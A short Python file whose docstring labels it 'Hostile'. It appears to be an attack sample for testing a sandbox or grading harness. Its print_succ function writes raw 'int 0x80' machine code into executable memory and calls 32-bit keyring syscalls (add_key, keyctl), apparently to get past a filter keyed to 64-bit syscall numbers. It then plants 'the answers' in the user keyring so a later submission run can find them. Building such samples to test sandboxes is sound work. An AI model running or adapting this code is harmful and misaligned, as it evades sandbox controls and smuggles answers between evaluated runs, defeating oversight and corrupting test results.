"""Hostile: leaves a key for the next run by the calls of 32-bit programs, which have other numbers."""

import ctypes
import mmap
import os


ADD, CONTROL, SEARCH, USER_KEYRING = 286, 288, 10, -4
IN_32_BITS = 0x40  # of mmap(2): an address that such a call can take
NAMES = b"user\0left-by-a-submission\0the answers\0"
CODE = bytes.fromhex("53 89f8 89f3 4489cf 4489c6 87d1 cd80 5b c3")  # int 0x80 with its arguments


def page(protection):
    """The address of a page in the first 4 GiB."""
    library = ctypes.CDLL(None)
    library.mmap.restype = ctypes.c_void_p
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | IN_32_BITS
    return library.mmap(None, 4096, protection, flags, -1, 0)


def print_succ(state):
    if os.uname().machine != "x86_64":
        return
    names, code = page(3), page(7)
    ctypes.memmove(names, NAMES, len(NAMES))
    ctypes.memmove(code, CODE, len(CODE))
    call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 6)(code)
    name, text = names + 5, names + NAMES.index(b"the")
    if call(CONTROL, SEARCH, USER_KEYRING, names, name, 0) > 0:
        print("done: found a key")
    call(ADD, names, name, text, 11, USER_KEYRING)
